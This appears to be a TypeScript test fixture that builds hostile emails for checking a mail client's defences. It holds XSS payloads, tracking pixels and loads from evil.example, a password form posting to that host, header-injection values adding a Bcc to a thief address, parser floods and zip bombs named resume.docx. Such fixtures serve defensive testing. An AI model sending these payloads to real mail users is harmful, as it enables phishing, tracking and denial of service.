import { docx, pdf } from '../../attachments/sample-files.ts';
import { zipOf } from '../../attachments/zip.ts';
import { message, multipart, type Part } from './message.ts';

/** A mail that is made to do harm. */
export interface HostileMail {
  about: string;
  source: string | Uint8Array;
  /** Whether the mailbox had more of it than is read. */
  isCut?: boolean;
}

const html = (content: string): Part[] => [
  { type: 'text/plain', content: 'Hello.' },
  { type: 'text/html; charset=utf-8', content },
];

/** HTML by what it tries. `evil.example` is where everything would load from. */
const pages: Record<string, string> = {
  'a script': '<p>Hi<script>fetch("https://evil.example/")</script>',
  'a script in an attribute': '<p onclick="alert(1)" onmouseover=alert(1)>Hi</p><body onload=alert(1)>',
  'a script URL':
    '<a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(1)">b</a><a href="data:text/html,<script>1</script>">c</a><a href="vbscript:x">d</a>',
  'an SVG with a script':
    '<svg onload="alert(1)"><script>alert(1)</script><image href="https://evil.example/x"/></svg>',
  'MathML that hides a script':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a remote pixel': '<img src="https://evil.example/pixel.gif" width=1 height=1 alt="Dot">',
  'a set of pictures':
    '<picture><source srcset="https://evil.example/a 2x"><img srcset="https://evil.example/b 1x"></picture>',
  'a remote background':
    '<table background="https://evil.example/x"><tr><td style="background-image:url(https://evil.example/y)">x</td></tr></table>',
  'a style that loads':
    '<style>@import "https://evil.example/x.css"; p { background: url(//evil.example/y) }</style><p style="background:url(\'https://evil.example/z\')">x</p>',
  'an escaped style':
    '<p style="background:\\75\\72\\6c(https://evil.example/x)">x</p><p style="width:expression(alert(1))">y</p><p style="font-family:\'a\';background:url(https://evil.example/q)">z</p>',
  'a form':
    '<form action="https://evil.example/"><input name=password><button formaction="https://evil.example/b">Sign in</button></form>',
  'a frame':
    '<iframe src="https://evil.example/"></iframe><frameset><frame src="https://evil.example/"></frameset><object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  'a base address': '<base href="https://evil.example/"><a href="/login">Log in</a>',
  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a style sheet':
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/y">',
  'a video':
    '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video><audio src="https://evil.example/z"></audio>',
  'a comment that ends early':
    '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><!--[if mso]><script>alert(1)</script><![endif]-->',
  'broken markup':
    '<p><a href="https://evil.example/?"><b <script>alert(1)</script> <<script>alert(1)//<</script> "><img src=x onerror=alert(1)>',
  'markup in a template':
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'an overlay':
    '<div style="position:fixed;inset:0;z-index:9999;opacity:0"><a href="https://evil.example/">everything</a></div>',
  'a name for the page':
    '<title>x</title><form id="document"></form><a id="location" name="top" href="https://evil.example/">x</a>',
  'deep nesting': `${'<div>'.repeat(50_000)}x`,
  'wide nesting': `<table>${'<tr><td>'.repeat(20_000)}x`,
  'a long attribute': `<p style="${'color:red;'.repeat(50_000)}">x</p>`,
};

const headers: Record<string, string> = {
  'a header in the subject': message({
    Subject: '=?utf-8?q?Hi=0D=0ABcc:_thief@evil.example=0D=0A=0D=0Abody?=',
  }),
  'a header in the name': message({
    From: '=?utf-8?b?QQ0KQmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?= <jordan@mail.example>',
  }),
  'a null byte': message({ Subject: 'A\0B' }, 'Text\0 with\u0007 controls\u202e and marks'),
  'a header of a megabyte': message({ 'X-Long': 'a '.repeat(500_000) }),
  'many headers': message({ References: '<a@b.example> '.repeat(20_000), To: 'a@b.example, '.repeat(5000) }),
  'no headers at all': '\r\nOnly text.',
  'no sender': message({ From: undefined, Date: undefined, 'Message-ID': undefined }),
  'an address that is not one': message({
    From: '"><script>alert(1)</script>" <jordan@mail.example>',
    To: ',,,;<>:',
  }),
};

/** Small mails that cost a careless reader time or memory beyond all measure. */
function floods(): HostileMail[] {
  const htmlOnly = (content: string) => message({ 'Content-Type': 'text/html' }, content);
  const fonts = Array.from({ length: 2000 }, (_, at) => `<font x=${at}>`).join('');
  const report = multipart(
    { From: 'MAILER-DAEMON@mail.example', 'Return-Path': '<>' },
    [{ type: 'message/delivery-status', content: `Status: 5.1.1\nX: ${'a'.repeat(60_000)}` }],
    'report; report-type=delivery-status',
  );
  return [
    { about: 'formatting that each block repeats', source: htmlOnly(`<p>${fonts}${'<p>x'.repeat(8000)}`) },
    { about: 'blocks of spaces', source: htmlOnly('<div> </div>'.repeat(80_000)) },
    {
      about: 'many lines in many quotes',
      source: htmlOnly('<blockquote>'.repeat(900) + '<br>x'.repeat(90_000)),
    },
    {
      about: 'a run of spaces within a line',
      source: message({ 'Content-Transfer-Encoding': 'quoted-printable' }, `${' '.repeat(400_000)}x`),
    },
    { about: 'separators above nothing', source: message({}, 'Sent from Outlook\n'.repeat(28_000)) },
    { about: 'attributions above nothing', source: message({}, 'On abcde wrote:\n>\n'.repeat(28_000)) },
    { about: 'an address without an end', source: message({}, `a <${'@'.repeat(400_000)}:`) },
    { about: 'a report with a word of 60 kB', source: report },
  ];
}

function encodings(): HostileMail[] {
  const bytes = (charset: string, content: Buffer) =>
    Buffer.concat([Buffer.from(message({ 'Content-Type': `text/plain; charset=${charset}` }, '')), content]);
  return [
    { about: 'a broken charset', source: bytes('utf-8', Buffer.from('caf\xe9 \xff\xfe\x80', 'latin1')) },
    { about: 'an unknown charset', source: bytes('x-klingon', Buffer.from('Grüße')) },
    { about: 'base64 that is none', source: message({ 'Content-Transfer-Encoding': 'base64' }, '!!!===%%%') },
  ];
}

function structures(): HostileMail[] {
  const parts = Array.from({ length: 1000 }, (_, at) => ({ type: 'text/plain', content: `Part ${at}` }));
  const files = Array.from({ length: 100 }, (_, at) => ({
    type: 'application/pdf',
    name: `file-${at}.pdf`,
    content: pdf(100 + at),
  }));
  const nested = Array.from({ length: 300 }).reduce<Part>(
    (inner) => ({
      type: `multipart/mixed; boundary=b`,
      content: `--b\nContent-Type: ${inner.type}\n\n${inner.content}\n--b--`,
    }),
    { type: 'text/plain', content: 'deep' },
  );
  const bomb = docx([{ name: 'word/media/zeros', content: Buffer.alloc(200_000_000) }]);
  return [
    { about: '1,000 parts', source: multipart({}, parts) },
    { about: '100 files', source: multipart({}, [{ type: 'text/plain', content: 'Hi' }, ...files]) },
    { about: '300 levels', source: multipart({}, [nested]) },
    {
      about: 'a zip bomb',
      source: multipart({}, [
        { type: 'text/plain', content: 'See the document.' },
        { type: 'application/octet-stream', name: 'resume.docx', content: bomb },
        {
          type: 'application/zip',
          name: 'bomb.zip',
          content: zipOf([{ name: 'a', content: Buffer.alloc(100_000_000) }]),
        },
      ]),
    },
    {
      about: '50 MB',
      source: multipart({}, [
        { type: 'text/plain', content: 'The scans.' },
        { type: 'application/pdf', name: 'scans.pdf', content: pdf(38_000_000) },
      ]).slice(0, 50_000_000),
      isCut: true,
    },
  ];
}

export function hostileMails(): HostileMail[] {
  return [
    ...Object.entries(pages).map(([about, page]) => ({
      about,
      source: multipart({}, html(page), 'alternative'),
    })),
    ...Object.entries(headers).map(([about, source]) => ({ about, source })),
    ...encodings(),
    ...floods(),
    ...structures(),
  ];
}
